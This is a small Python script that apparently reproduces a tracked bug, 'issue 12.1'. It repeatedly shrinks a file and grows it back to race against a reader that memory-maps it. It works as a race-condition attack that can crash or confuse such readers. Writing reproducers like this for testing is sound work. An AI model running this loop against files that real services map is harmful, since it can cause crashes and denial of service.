#!/usr/bin/env python3
"""Run as the file's owner: shrinks FILE to KEEP bytes and grows it back to what it was, again
and again, for SECONDS (the attack of issue 12.1 on a reader that maps the file).
Usage: truncloop.py FILE KEEP SECONDS"""
import os
import sys
import time

path, keep, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
fd = os.open(path, os.O_RDWR)
size = os.fstat(fd).st_size
# the real bytes after KEEP; trailing zeros read back as zeros from the hole anyway
tail = os.pread(fd, 1 << 20, keep).rstrip(b"\0")
end = time.monotonic() + seconds
while time.monotonic() < end:
    os.ftruncate(fd, keep)
    time.sleep(0.003)
    os.pwrite(fd, tail, keep)
    os.ftruncate(fd, size)
    time.sleep(0.003)
os.close(fd)
